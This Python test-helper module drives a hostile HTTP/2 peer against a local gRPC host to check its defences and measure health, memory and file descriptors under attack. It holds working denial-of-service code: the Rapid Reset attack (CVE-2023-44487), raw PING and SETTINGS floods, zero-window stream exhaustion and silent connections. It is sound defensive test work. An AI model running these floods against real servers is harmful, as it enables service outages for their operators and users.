"""A hostile HTTP/2 peer, built with h2 over blocking sockets (so it runs in a thread beside the
test's event loop), and a watch on a host's health while it attacks. Used by
tests/test_host_defences.py and benchmarks/host_floods.py.
"""

from __future__ import annotations

import asyncio
import socket
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import h2.settings

HEALTH_CHECK = "/grpc.health.v1.Health/Check"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def request_headers(path: str = HEALTH_CHECK) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", "127.0.0.1"), ("content-type", "application/grpc"),
            ("te", "trailers")]


#: An empty HealthCheckRequest in gRPC framing.
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"


@dataclass
class Outcome:
    """What the host did to an attacking connection."""

    goaway: int | None = None  # the GOAWAY error code received, if any
    closed: bool = False  # the host closed the connection
    sent: int = 0  # units of attack sent before it was closed

    def ended_with(self, code: int) -> bool:
        return self.closed and self.goaway == code


class Attacker:
    """One connection to `port`, speaking raw HTTP/2."""

    def __init__(self, port: int, *, receive_buffer: int | None = None,
                 host: str = "127.0.0.1") -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer is not None:  # a peer that reads little: the host's writes back up
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.settimeout(10)
        self.sock.connect((host, port))
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.outcome = Outcome()

    def greet(self, settings: dict[int, int] | None = None) -> None:
        self.h2.initiate_connection()
        if settings:
            self.h2.update_settings(settings)
        self.send(self.h2.data_to_send())

    def send(self, data: bytes) -> bool:
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.outcome.closed = True
            return False

    def read_until_closed(self, timeout: float = 10.0) -> Outcome:
        """Read (acking nothing) until the host closes; note its GOAWAY."""
        deadline = time.monotonic() + timeout
        self.sock.settimeout(0.5)
        while time.monotonic() < deadline:
            try:
                data = self.sock.recv(1 << 20)
            except TimeoutError:
                continue
            except OSError:
                self.outcome.closed = True
                break
            if not data:
                self.outcome.closed = True
                break
            self._note(data)
        return self.outcome

    def _note(self, data: bytes) -> None:
        try:
            events = self.h2.receive_data(data)
        except Exception:
            return
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.outcome.goaway = int(event.error_code)

    def close(self) -> None:
        self.sock.close()

    # attacks

    def rapid_reset(self, count: int, batch: int = 500) -> Outcome:
        """HEADERS then RST_STREAM(CANCEL), `count` times (CVE-2023-44487)."""
        self.greet()
        headers = request_headers()
        for start in range(0, count, batch):
            for _ in range(min(batch, count - start)):
                stream_id = self.h2.get_next_available_stream_id()
                self.h2.send_headers(stream_id, headers)
                self.h2.reset_stream(stream_id)
            if not self.send(self.h2.data_to_send()):
                break
            self.outcome.sent = start + batch
        return self.read_until_closed()

    def control_flood(self, kind: str, count: int, batch: int = 2000) -> Outcome:
        """`count` PING or empty SETTINGS frames, each needing an ack, never reading one."""
        self.greet()
        if kind == "ping":
            frame = struct.pack(">I", 8)[1:] + b"\x06\x00\x00\x00\x00\x00" + bytes(8)
        else:
            frame = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
        chunk = frame * batch
        for start in range(0, count, batch):
            if not self.send(chunk):
                break
            self.outcome.sent = start + batch
        return self.read_until_closed()

    def open_streams(self, count: int) -> bool:
        """`count` health checks whose answers cannot be sent (the stream window is 0); returns
        once the host answered the first one's headers (False: the host closed first)."""
        self.greet({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        for _ in range(count):
            stream_id = self.h2.get_next_available_stream_id()
            self.h2.send_headers(stream_id, request_headers())
            self.h2.send_data(stream_id, EMPTY_MESSAGE, end_stream=True)
        if not self.send(self.h2.data_to_send()):
            return False
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            try:
                data = self.sock.recv(65536)
            except OSError:
                return False
            if not data:
                return False
            try:
                events = self.h2.receive_data(data)
            except Exception:
                return True
            if any(isinstance(e, h2.events.ResponseReceived) for e in events):
                return True
        return False


def silent_connections(port: int, count: int) -> list[socket.socket]:
    """Connections that never send the HTTP/2 preface."""
    return [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(count)]


def is_closed_by_peer(sock: socket.socket, timeout: float = 0.2) -> bool:
    """Whether the host closed `sock` (what it sent before, such as its SETTINGS, is read and
    dropped)."""
    sock.settimeout(timeout)
    try:
        while sock.recv(65536):
            pass
        return True
    except TimeoutError:
        return False
    except OSError:
        return True


@dataclass
class HealthWatch:
    """Checks a host's health over and over from this event loop; `worst` is the longest a
    check took (or the longest gap between answers)."""

    host: str
    port: int
    context: object = None
    worst: float = 0.0
    checks: int = 0
    failures: list[str] = field(default_factory=list)

    async def run(self, stop: asyncio.Event) -> None:
        from tests.hosts import health
        while not stop.is_set():
            started = time.monotonic()
            try:
                await asyncio.wait_for(health(self.host, self.port), 30)
                self.checks += 1
            except Exception as exc:
                self.failures.append(repr(exc))
            self.worst = max(self.worst, time.monotonic() - started)
            await asyncio.sleep(0.02)  # time passes between checks


async def while_watching(port: int, attack: Callable[[], object]) -> tuple[object, HealthWatch]:
    """Run the blocking `attack` in a thread while watching the host's health."""
    watch = HealthWatch("127.0.0.1", port)
    stop = asyncio.Event()
    watcher = asyncio.ensure_future(watch.run(stop))
    try:
        result = await asyncio.to_thread(attack)
        await asyncio.sleep(0.3)  # time passes: the host catches up with what was sent
    finally:
        stop.set()
        await watcher
    return result, watch


def rss_bytes(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise RuntimeError(f"no VmRSS for {pid}")


def open_fds(pid: int) -> int:
    return len(list(Path(f"/proc/{pid}/fd").iterdir()))


def in_thread(target: Callable[[], object]) -> threading.Thread:
    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    return thread
